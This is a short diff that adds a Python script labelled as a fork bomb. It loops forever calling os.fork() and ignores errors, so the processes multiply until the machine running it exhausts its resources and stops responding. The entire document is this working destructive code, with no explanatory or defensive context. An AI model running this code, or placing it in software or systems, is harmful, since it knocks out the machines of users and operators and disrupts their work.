@@ -1,0 +1,8 @@
+# (c) fork bomb
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
